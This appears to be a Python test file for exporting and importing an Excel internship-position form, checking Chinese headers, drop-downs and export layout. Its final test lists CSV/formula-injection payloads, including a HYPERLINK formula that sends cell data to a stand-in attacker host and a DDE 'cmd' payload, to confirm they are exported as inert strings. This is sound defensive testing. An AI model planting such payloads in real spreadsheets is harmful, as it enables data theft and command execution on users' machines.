"""Writing the 岗位征集表: the template's headers and drop-downs, the export's layout, and hostile
text that stays inert in the export."""

import zipfile
from io import BytesIO

from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from site_builder.model.catalogue import Catalogue, PositionEntry, UnitEntry
from site_builder.model.vocab import DISTRICTS, EDUCATION_LEVELS, POSITION_TYPES, TRACKS, UNIT_CATEGORIES
from site_builder.spreadsheet import (
    OPTIONS_SHEET,
    POSITION_SHEET,
    UNIT_SHEET,
    export_workbook,
    read_import,
    template_workbook,
    workbook_bytes,
)
from tests.site_builder.spreadsheet.workbooks import TODAY, unit_only


def test_template_has_chinese_headers_and_drop_downs() -> None:
    workbook = load_workbook(BytesIO(workbook_bytes(template_workbook())))
    assert workbook.sheetnames == [UNIT_SHEET, POSITION_SHEET, OPTIONS_SHEET]
    assert workbook[OPTIONS_SHEET].sheet_state == "hidden"

    sheet = workbook[POSITION_SHEET]
    headers = [c.value for c in sheet[1]]
    assert headers[:10] == [
        "岗位名称", "岗位类型", "岗位性质", "招收人数",
        "导师1姓名", "导师1职称", "导师2姓名", "导师2职称", "导师3姓名", "导师3职称",
    ]  # fmt: skip
    # Issue 21: ten mentors (30 places) in the template, not three (9 places).
    assert headers[22:24] == ["导师10姓名", "导师10职称"] and "导师11姓名" not in headers
    for header in ("岗位职责", "见习收获", "专业要求", "最低学历", "工作地点区县", "工作地点详细地址",
                   "每月生活费（元）", "开始日期", "结束日期", "报名截止日期", "产业领域标签",
                   "岗位联系人", "岗位联系人电话", "岗位联系人邮箱"):  # fmt: skip
        assert header in headers
    assert sheet.freeze_panes == "B2"
    letter = {h: get_column_letter(i) for i, h in enumerate(headers, start=1)}
    for header in ("开始日期", "结束日期", "报名截止日期"):
        assert sheet.column_dimensions[letter[header]].number_format == "yyyy-mm-dd"

    options = workbook[OPTIONS_SHEET]
    lists = {
        options.cell(1, c).value: [options.cell(r, c).value for r in range(2, options.max_row + 1)]
        for c in range(1, options.max_column + 1)
    }

    def drop_downs(sheet_name: str) -> dict[str, list[str]]:
        """Cells → the values their list validation offers, read back through the range it names."""
        found = {}
        for validation in workbook[sheet_name].data_validations.dataValidation:
            if validation.type != "list":
                continue
            sheet_part, cells = validation.formula1.split("!")
            assert sheet_part == f"'{OPTIONS_SHEET}'"
            column = options[cells.replace("$", "").split(":")[0][0]][0].column
            values = [v for v in lists[options.cell(1, column).value] if v is not None]
            found[str(validation.sqref).split(":")[0]] = values
        return found

    on_positions = drop_downs(POSITION_SHEET)
    assert on_positions[f"{letter['岗位类型']}2"] == list(POSITION_TYPES)
    assert on_positions[f"{letter['岗位性质']}2"] == list(TRACKS)
    assert on_positions[f"{letter['工作地点区县']}2"] == list(DISTRICTS)
    assert len(DISTRICTS) == 41
    assert on_positions[f"{letter['最低学历']}2"] == list(EDUCATION_LEVELS)

    labels = {row[0].value: row[0].row for row in workbook[UNIT_SHEET].iter_rows(min_row=2)}
    on_unit = drop_downs(UNIT_SHEET)
    assert on_unit[f"B{labels['单位类别']}"] == list(UNIT_CATEGORIES)
    assert on_unit[f"B{labels['单位所在区县']}"] == list(DISTRICTS)
    assert on_unit[f"B{labels['就业见习单位认定状态']}"] == ["申报中", "已认定"]
    assert [c.value for c in workbook[UNIT_SHEET][1]] == ["字段", "填写内容", "说明"]


def test_export_of_many_units_is_one_sheet_but_imports_one_unit_at_a_time(
    sample_catalogue: Catalogue,
) -> None:
    workbook = export_workbook(sample_catalogue)
    sheet = workbook[POSITION_SHEET]
    assert sheet.max_row == len(sample_catalogue.positions) + 1
    headers = [c.value for c in sheet[1]]
    assert headers[0] == "岗位编号" and "统一社会信用代码" in headers and "岗位状态" in headers
    problems = read_import(workbook_bytes(workbook), "汇总.xlsx", today=TODAY).problems
    assert problems and all("一次只能导入同一家单位的岗位" in str(p) for p in problems)


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "#N/A",
    "\t=1+1",
]


def test_hostile_cells_stay_strings(sample_catalogue: Catalogue) -> None:
    slug = "shili-engineering-journal"
    catalogue = unit_only(sample_catalogue, slug)
    entry = catalogue.positions[0]
    hostile_positions = [
        PositionEntry(f"{slug}/hostile-{n}", f"hostile-{n}", slug, entry.path,
                      entry.position.model_copy(update={"title": text, "majors": [text]}))
        for n, text in enumerate(HOSTILE)
    ]  # fmt: skip
    unit = catalogue.units[slug]
    hostile_unit = UnitEntry(slug, unit.path, unit.unit.model_copy(update={"address": HOSTILE[0]}))
    data = workbook_bytes(export_workbook(Catalogue({slug: hostile_unit}, hostile_positions)))

    with zipfile.ZipFile(BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml

    sheet = load_workbook(BytesIO(data))[POSITION_SHEET]
    headers = [c.value for c in sheet[1]]
    title_column = headers.index("岗位名称") + 1
    address_column = headers.index("单位地址") + 1
    for row, text in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row, title_column)
        assert (cell.value, cell.data_type) == (text, "s")
        assert cell.quotePrefix == text.startswith(("=", "+", "-", "@", "\t"))
        assert sheet.cell(row, address_column).data_type == "s"

    result = read_import(data, "导出.xlsx", today=TODAY)
    assert result.problems == []
    assert [p.title for p in result.positions] == [text.strip() for text in HOSTILE]
    assert result.unit is not None and result.unit.address == HOSTILE[0]
